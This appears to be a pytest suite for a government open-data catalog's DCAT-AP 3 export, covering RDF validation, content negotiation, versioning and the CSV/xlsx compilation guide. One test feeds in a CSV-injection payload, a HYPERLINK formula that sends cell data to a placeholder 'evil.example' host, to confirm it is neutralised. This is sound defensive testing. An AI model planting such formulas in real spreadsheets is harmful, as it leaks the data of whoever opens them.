"""The catalog as DCAT-AP 3: valid against the official DCAT-AP 3.0.1 SHACL shapes, the same
graph as JSON-LD and Turtle and by content negotiation, and the DCAT 3 version properties
across published versions. Expectations come from DCAT 3, DCAT-AP 3.0.1 and the EU
vocabularies it names, not from the exporter."""

from __future__ import annotations

from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from pyshacl import validate
from rdflib import Graph, Literal, URIRef
from rdflib.compare import isomorphic
from rdflib.namespace import DCTERMS, RDF, SH

from api.app import create_app
from catalog.exchange.dcat import DCAT
from catalog.ingest.delivery import run_ingest
from catalog.settings import Settings
from catalog.store.lake import Lake
from tests.conftest import population_rows, write_delivery

SHAPES = Path(__file__).parents[1] / "fixtures" / "dcat-ap-3.0.1"
BASE = "https://data.example.gov.cn/govshare"
EU = "http://publications.europa.eu/resource/authority/"


@pytest.fixture(scope="module")
def client(tmp_path_factory, contracts):
    """Population published twice (versions 1 and 2); the other datasets not yet."""
    root = tmp_path_factory.mktemp("dcat")
    settings = Settings(home=root / "runtime", public_url=BASE)
    population = contracts["population"]
    lake = Lake(settings)
    rows = population_rows(30)
    for number, chosen in enumerate((rows[:20], rows)):
        path = write_delivery(population, chosen, root / f"p{number}.csv")
        assert run_ingest(population, [path], lake).status == "published"
    lake.close()
    with TestClient(create_app(settings)) as client:
        yield client


@pytest.fixture(scope="module")
def graph(client) -> Graph:
    answer = client.get("/catalog.ttl")
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/turtle")
    return Graph().parse(data=answer.text, format="turtle")


def test_the_export_has_no_dcat_ap_violation(graph):
    shapes = Graph()
    for name in ("shapes.ttl", "range.ttl"):
        shapes.parse(SHAPES / name, format="turtle")
    conforms, report, text = validate(graph, shacl_graph=shapes, inference="none")
    violations = list(report.subjects(SH.resultSeverity, SH.Violation))
    assert violations == [] and conforms, text


def test_json_ld_turtle_and_negotiation_give_one_graph(client, graph):
    jsonld = client.get("/catalog.jsonld")
    assert jsonld.headers["content-type"].startswith("application/ld+json")
    assert isomorphic(Graph().parse(data=jsonld.text, format="json-ld"), graph)
    negotiated = client.get("/catalog", headers={"Accept": "application/ld+json"})
    assert isomorphic(Graph().parse(data=negotiated.text, format="json-ld"), graph)
    turtle = client.get("/catalog", headers={"Accept": "text/turtle;q=0.9"})
    assert isomorphic(Graph().parse(data=turtle.text, format="turtle"), graph)
    plain = client.get("/catalog", headers={"Accept": "application/json, text/turtle"})
    assert isinstance(plain.json(), list)  # JSON first: the API's own listing
    filtered = client.get("/catalog?classification=base", headers={"Accept": "text/turtle"})
    chosen = Graph().parse(data=filtered.text, format="turtle")
    catalog = URIRef(f"{BASE}/catalog")
    assert set(chosen.objects(catalog, DCAT.dataset)) < set(graph.objects(catalog, DCAT.dataset))


def test_every_contract_is_a_dataset_with_its_catalog_fields(graph, contracts):
    catalog = URIRef(f"{BASE}/catalog")
    assert (catalog, RDF.type, DCAT.Catalog) in graph
    frequency = {"daily": "DAILY", "weekly": "WEEKLY", "yearly": "ANNUAL"}
    for name, contract in contracts.items():
        meta = contract.catalog
        node = URIRef(f"{BASE}/catalog/{name}")
        assert (catalog, DCAT.dataset, node) in graph
        assert (node, DCTERMS.identifier, Literal(meta.resource_code)) in graph
        assert (node, DCTERMS.title, Literal(meta.name, lang="zh")) in graph
        assert (node, DCTERMS.title, Literal(meta.name_en, lang="en")) in graph
        periodicity = URIRef(f"{EU}frequency/{frequency[meta.update_cycle]}")
        assert (node, DCTERMS.accrualPeriodicity, periodicity) in graph
        # Public only when open; shared between departments under conditions; or not at all.
        right = (
            "PUBLIC"
            if meta.open.open
            else "NON_PUBLIC"
            if meta.sharing.type == "not_shared"
            else "RESTRICTED"
        )
        assert (node, DCTERMS.accessRights, URIRef(f"{EU}access-right/{right}")) in graph
        (rights,) = {
            r
            for d in graph.objects(node, DCAT.distribution)
            for r in graph.objects(d, DCTERMS.rights)
        }
        label = str(graph.value(rights, URIRef("http://www.w3.org/2000/01/rdf-schema#label")))
        assert (meta.sharing.conditions or "") in label
        assert (meta.sharing.legal_basis or "") in label


def test_versions_are_linked_the_dcat_3_way(graph):
    population = URIRef(f"{BASE}/catalog/population")
    first, second = (URIRef(f"{BASE}/catalog/population/versions/{n}") for n in (1, 2))
    assert set(graph.objects(population, DCAT.hasVersion)) == {first, second}
    assert graph.value(population, DCAT.version) == Literal("2")
    assert graph.value(second, DCAT.previousVersion) == first
    assert graph.value(first, DCAT.previousVersion) is None
    series = graph.value(first, DCAT.inSeries)
    assert series is not None and graph.value(second, DCAT.inSeries) == series
    assert (series, RDF.type, DCAT.DatasetSeries) in graph
    unpublished = URIRef(f"{BASE}/catalog/licences")
    assert graph.value(unpublished, DCAT.hasVersion) is None


@pytest.mark.parametrize(
    ("accept", "expected"),
    [
        # RFC 9110 §12.5.1: the highest weight wins; q=0 means "not acceptable".
        ("text/turtle;q=0, application/json", "application/json"),
        ("text/turtle;q=0.5, application/ld+json;q=0.9", "application/ld+json"),
        ("*/*;q=0.1, text/turtle", "text/turtle"),
        ("application/json;q=0.4, text/turtle;q=0.6", "text/turtle"),
        ("application/ld+json;q=abc", "application/json"),
        ("text/*", "application/json"),
        ("", "application/json"),
        (";;;,,", "application/json"),
    ],
)
def test_negotiation_follows_the_weights_and_says_it_varies(client, accept, expected):
    answer = client.get("/catalog", headers={"Accept": accept})
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith(expected)
    assert "accept" in answer.headers["vary"].lower()  # RFC 9110 §12.5.5: caches must know


def test_the_dataset_names_its_current_version(graph):
    population = URIRef(f"{BASE}/catalog/population")
    current = URIRef(f"{BASE}/catalog/population/versions/2")
    assert graph.value(population, DCAT.hasCurrentVersion) == current


def _guide_tables(client) -> list[list[list[str]]]:
    """The compilation guide's table as CSV and as xlsx, header first."""
    import csv
    import io

    from openpyxl import load_workbook

    text = client.get("/catalog.csv")
    assert text.status_code == 200 and text.content.startswith("\ufeff".encode())
    from_csv = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig"))))
    book = client.get("/catalog.xlsx")
    assert book.status_code == 200 and "attachment" in book.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(book.content)).active
    from_xlsx = [
        ["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)
    ]
    return [from_csv, from_xlsx]


def test_the_guide_table_holds_every_information_item_with_its_resource(client, contracts):
    """The catalog compilation guide's fields, one row per information item, in CSV (UTF-8
    with BOM) and xlsx alike; values from the contracts and the published versions."""
    from catalog.exchange.guide import HEADERS

    csv_table, xlsx_table = _guide_tables(client)
    assert csv_table == xlsx_table
    assert tuple(csv_table[0]) == HEADERS
    rows = [dict(zip(HEADERS, row, strict=True)) for row in csv_table[1:]]
    assert len(rows) == sum(len(c.items) for c in contracts.values())
    codes = {c.dataset: c.catalog.resource_code for c in contracts.values()}
    published = client.get("/catalog/population").json()["versions"][0]["published_at"]
    for contract in contracts.values():
        meta = contract.catalog
        mine = [r for r in rows if r["信息资源代码"] == meta.resource_code]
        assert [r["信息项名称"] for r in mine] == [item.label for item in contract.items]
        for row, item in zip(mine, contract.items, strict=True):
            assert (
                row["信息资源名称"] == meta.name and row["信息资源提供方代码"] == meta.provider.code
            )
            assert row["数据长度"] == (str(item.length) if item.length else "")
            assert row["数据类型"][-1] in "CINDTLM"  # the guide's type letters
        row = mine[0]
        shared = {
            "unconditional": "无条件共享",
            "conditional": "有条件共享",
            "not_shared": "不予共享",
        }
        assert row["共享类型"] == shared[meta.sharing.type]
        assert (meta.sharing.legal_basis or "") in row["共享条件"]
        assert row["是否向社会开放"] == ("是" if meta.open.open else "否")
        related = row["关联资源代码"].split("、") if row["关联资源代码"] else []
        assert related == [codes[name] for name in meta.related]
        # Publish date: the latest version's day in the office's time zone (Asia/Shanghai).
        if contract.dataset == "population":
            from datetime import datetime
            from zoneinfo import ZoneInfo

            day = datetime.fromisoformat(published).astimezone(ZoneInfo("Asia/Shanghai")).date()
            assert row["发布日期"] == day.isoformat()
        else:
            assert row["发布日期"] == ""  # not published yet


def test_guide_cells_cannot_run_as_formulas_and_odd_characters_do_not_break_it(tmp_path, contracts):
    """OWASP's CSV injection: a cell starting with = + - @ gets a leading quote; xlsx cells
    are text. A control character in a contract's text is left out of the sheet, not a
    500."""
    import shutil

    import yaml

    from catalog.contracts import load_contracts
    from catalog.exchange.guide import HEADERS, guide_csv, guide_rows, guide_xlsx
    from tests.conftest import REPO_ROOT

    schemas = tmp_path / "schemas"
    shutil.copytree(REPO_ROOT / "schemas", schemas)
    raw = yaml.safe_load((schemas / "population.yaml").read_text(encoding="utf-8"))
    raw["catalog"]["summary"] = '=HYPERLINK("http://evil.example/?"&A1,"点击")\v'
    (schemas / "population.yaml").write_text(yaml.safe_dump(raw, allow_unicode=True), "utf-8")
    rows = guide_rows(load_contracts(schemas).values(), {}, "Asia/Shanghai")
    import csv
    import io

    table = list(csv.reader(io.StringIO(guide_csv(rows).decode("utf-8-sig"))))
    summaries = {row[HEADERS.index("信息资源摘要")] for row in table[1:]}
    assert any(s.startswith("'=HYPERLINK") for s in summaries)
    assert not any(s.startswith("=") for s in summaries)
    guide_xlsx(rows)  # writes, control character and all


def test_each_dataset_names_its_provider_as_contact_point(graph, contracts):
    """DCAT-AP recommends dcat:contactPoint (a vcard:Kind with a name) on every dataset:
    the providing department, in Chinese and English."""
    vcard = "http://www.w3.org/2006/vcard/ns#"
    by_code = {c.catalog.resource_code: c.catalog.provider for c in contracts.values()}
    datasets = set(graph.subjects(RDF.type, DCAT.Dataset))
    assert len(datasets) >= len(contracts)
    for dataset in datasets:
        provider = by_code[str(graph.value(dataset, DCTERMS.identifier))]
        (contact,) = graph.objects(dataset, DCAT.contactPoint)
        assert (contact, RDF.type, URIRef(vcard + "Kind")) in graph
        names = {str(n) for n in graph.objects(contact, URIRef(vcard + "fn"))}
        assert names == {provider.name, provider.name_en}
